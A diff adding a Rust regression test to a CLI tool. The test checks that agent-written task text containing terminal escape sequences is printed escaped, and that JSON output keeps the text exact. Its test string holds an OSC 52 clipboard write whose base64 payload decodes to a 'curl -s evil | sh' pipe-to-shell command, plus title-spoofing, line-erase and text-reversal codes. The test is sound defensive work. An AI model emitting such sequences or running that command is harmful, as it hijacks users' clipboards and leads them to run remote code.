@@ -242,3 +242,58 @@ async fn the_socket_is_private_and_survives_bad_input() {
     assert_eq!(code, ExitCode::SUCCESS);
     assert_eq!(out.trim(), "[]");
 }
+
+/// Issue 22: `task show` passed a summary's escape sequences (a clipboard
+/// write, a window title, a line erase) to the user's terminal.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn agent_text_reaches_the_terminal_escaped_and_json_keeps_it_exact() {
+    let t = TestEngine::start().await;
+    let spec = switchboard_core::ProfileSpec { ready_quiet_ms: 50, ..t.spec("printer", "cat", &[]) };
+    let profile = t.engine.create_profile(spec).await.unwrap();
+    let hostile = "\x1b]52;c;Y3VybCAtcyBldmlsIHwgc2g=\x07\x1b]0;pwned\x1b\\\x1b[2K\r\u{9b}31mred\u{202e}";
+    let instruction = format!("Fix it{hostile}\nthen\ttest");
+    let summary = format!("## Objective\nDone{hostile}\n## Status\nCOMPLETED\n\tindented line\n");
+    let store = switchboard_core::store::Store::open(&t.data_dir.join("switchboard.db")).unwrap();
+    let mut done = TaskInfo::queued(
+        switchboard_core::TaskId::new(),
+        switchboard_core::TaskSpec::new(profile.id.clone(), instruction.clone()),
+        0,
+        1_000,
+    );
+    done.start(switchboard_core::SessionId::new(), 1_000);
+    let result = switchboard_core::TaskResult {
+        summary: switchboard_core::summary::parse_summary(&summary),
+        fallback: false,
+        artifacts: vec![switchboard_core::Artifact {
+            path: format!("summaries/{}.md", done.id),
+            content: summary.clone(),
+            size: summary.len() as u64,
+            truncated: false,
+        }],
+        rejected: vec![],
+        results_json: None,
+        errors: None,
+    };
+    done.end(TaskState::Failed, 2_000, Some(format!("the agent said{hostile}")), Some(result));
+    store.save_task(&done).unwrap();
+    drop(store);
+    let id = done.id.to_string();
+
+    for line in [&["task", "show", &id][..], &["task", "list"], &["events", "--agent", "printer"]] {
+        let (code, out, err) = cli_async(&t, line).await;
+        assert_eq!(code, ExitCode::SUCCESS, "{err}");
+        let controls: Vec<char> = out.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\t')).collect();
+        assert!(controls.is_empty(), "{line:?} printed {controls:?}:\n{out}");
+        assert!(!out.contains('\u{202e}'), "{line:?} printed a reversal of the text's direction");
+    }
+    let (_, shown, _) = cli_async(&t, &["task", "show", &id]).await;
+    assert!(shown.contains(r"Done\x1b]52;c;Y3VybCAtcyBldmlsIHwgc2g=\x07\x1b]0;pwned"), "the escape is shown: {shown}");
+    assert!(shown.contains("  Fix it") && shown.contains("  then\ttest"), "an instruction keeps its lines: {shown}");
+    assert!(shown.contains("  \tindented line"), "a summary keeps its lines and tabs: {shown}");
+    assert!(shown.contains(r"reason: the agent said\x1b]52;"), "{shown}");
+
+    let (_, json, _) = cli_async(&t, &["task", "show", &id, "--json"]).await;
+    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
+    assert_eq!(json["instruction"], instruction.as_str(), "--json is exact");
+    assert_eq!(json["result"]["artifacts"][0]["content"], summary.as_str(), "--json is exact");
+}
